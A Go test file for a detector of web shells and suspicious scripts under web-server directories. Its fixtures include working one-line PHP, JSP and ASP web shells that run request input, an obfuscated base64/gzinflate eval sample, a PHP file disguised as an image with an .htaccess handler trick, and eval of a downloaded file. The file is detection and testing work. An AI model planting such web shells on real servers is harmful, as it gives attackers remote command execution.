package persistence

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCodeThatRunsWhatTheRequestBringsIsKnown(t *testing.T) {
	for _, text := range []string{
		`<?php eval($_POST['x']); ?>`, `<?php @eval(base64_decode($_REQUEST["a"]));`, `<?=system($_GET[0])?>`, "<?php echo `$_GET[c]`;", `<?php $_GET['f']($_GET['a']);`,
		`<?php assert ( stripslashes( $_COOKIE[1] ) );`, `<?php eval(file_get_contents('php://input'));`, `<?php array_map('assert', array($_POST['z']));`,
		`<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>`, `<% eval Request.Item["x"] %>`, `<?php shell_exec(trim($_SERVER['HTTP_X']));`,
	} {
		if f := parseWebScript(text); !f.RunsInput {
			t.Errorf("%s: %+v", text, f)
		}
	}
	for _, text := range []string{
		`<?php echo htmlspecialchars($_GET['q']);`, `<?php $db->exec($_POST['x']);`, `<?php curl_exec($ch); $_GET;`, `<?php function system($_GET) {}`, `<?php exec('convert a b'); $x = $_GET['y'];`,
		`<?php Foo::eval($_POST);`, `<?php if (isset($_GET['f'])) { f($_GET['f']); }`,
	} {
		if f := parseWebScript(text); f.RunsInput {
			t.Errorf("%s: %+v", text, f)
		}
	}
}

func TestFactsOfWebScriptsAreTold(t *testing.T) {
	f := parseWebScript("<?php\n$x = gzinflate (base64_decode('" + strings.Repeat("QUJD", 600) + "')); eval($x);\nmove_uploaded_file($_FILES['a'], 'b'); fsockopen('h', 1); proc_open('sh');\n// FilesMan\n")

	equal(t, fmt.Sprint(f.Eval, f.Exec, f.Decode, f.Upload, f.Input, f.Network, f.RunsInput, f.LongLine > longLine, f.Markers),
		"true true true true true true false true [base64_decode eval fsockopen gzinflate known_shell long_base64 move_uploaded_file php_code proc_open]")
	g := parseWebScript(`<?php ` + strings.Repeat("chr(101).", 20) + `"` + strings.Repeat(`\x41`, 30) + `"; $this->system('x'); mysystem(1); $eval(2);`)
	equal(t, fmt.Sprint(g.Markers, g.Exec, g.Eval), "[char_chain hex_escapes php_code] false false")
}

func TestScriptsBelowWebRootsAreRecorded(t *testing.T) {
	root := tree(t, map[string]string{
		"/etc/passwd":                         "www-data:x:33:33::/var/www:/bin/sh\nroot:x:0:0::/root:/bin/sh\n",
		"/var/www/html/index.php":             "<?php echo 1;",
		"/var/www/html/uploads/a.php.jpg":     "<?php system($_GET['c']);",
		"/var/www/html/.x/s.phtml":            "\x00\x01binary",
		"/var/www/html/page.html":             "x",
		"/var/www/html/.htaccess":             "AddType application/x-httpd-php .jpg\n",
		"/var/www/html/node_modules/a.php":    "x",
		"/var/www/html/pipe.php":              "|",
		"/var/www/html/loop":                  "-> /var/www",
		"/var/lib/tomcat9/webapps/ROOT/a.jsp": "<% new ProcessBuilder(x) %>",
		"/home/bob/public_html/b.cgi":         "#!/bin/sh\n",
		"/home/bob/src/c.php":                 "x",
	})
	must(t, os.Lchown(filepath.Join(root, "var/www/html/uploads/a.php.jpg"), 33, 33))

	var records []seen
	within(t, func() { records, _ = run(t, webCollector(), root) })

	equal(t, strings.Join(column(records, "path"), " "), "/var/www/html/.htaccess /var/www/html/.x/s.phtml /var/www/html/index.php /var/www/html/uploads/a.php.jpg /var/lib/tomcat9/webapps/ROOT/a.jsp /home/bob/public_html/b.cgi")
	equal(t, find(t, records, "path", "/var/www/html/uploads/a.php.jpg").show("language", "extension", "root", "username", "is_web_owner", "in_upload_directory", "is_hidden", "runs_input", "markers"),
		"php|jpg|/var/www|www-data|true|true|false|true|[php_code system]")
	equal(t, find(t, records, "path", "/var/www/html/.x/s.phtml").show("is_hidden", "is_web_owner", "uses_eval", "entropy"), "true|false|<nil>|<nil>")
	equal(t, find(t, records, "name", "a.jsp").show("language", "uses_exec", "is_hidden"), "jsp|true|false")
	equal(t, find(t, records, "name", ".htaccess").show("language", "is_hidden", "uses_eval"), "<nil>|false|false")
}

// FuzzWebScript holds the facts to: no panic, entropy in range, sorted markers.
func FuzzWebScript(f *testing.F) {
	for _, s := range []string{"<?php eval($_POST[1]);", "chr(1).chr(2)", "function eval (", "`$_GET[a]`", "->exec("} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if got := parseWebScript(text); got.Entropy < 0 || got.Entropy > 8 || got.LongLine > int64(len(text)) {
			t.Errorf("%+v", got)
		}
		webLanguage(text)
	})
}

func TestMarkersTellWhatALineOfAScriptDoes(t *testing.T) {
	for text, want := range map[string]string{
		"<?php include $_GET['p'];":                            "includes_input",
		"<?php require_once(\"$_REQUEST[page].php\");":         "includes_input",
		"<?php include 'config.php'; $p = $_GET['p'];":         "",
		"<?php file_put_contents($_GET['f'], $_POST['d']);":    "writes_input",
		"<?php file_put_contents('log.txt', $_POST['d']);":     "",
		"<?php eval(file_get_contents('http://192.0.2.1/x'));": "evaluates_download",
		"<?php eval(file_get_contents('cache.php'));":          "",
	} {
		var got []string
		for _, marker := range parseWebScript(text).Markers {
			if strings.HasSuffix(marker, "_input") || strings.HasSuffix(marker, "_download") {
				got = append(got, marker)
			}
		}
		if got := strings.Join(got, " "); got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}
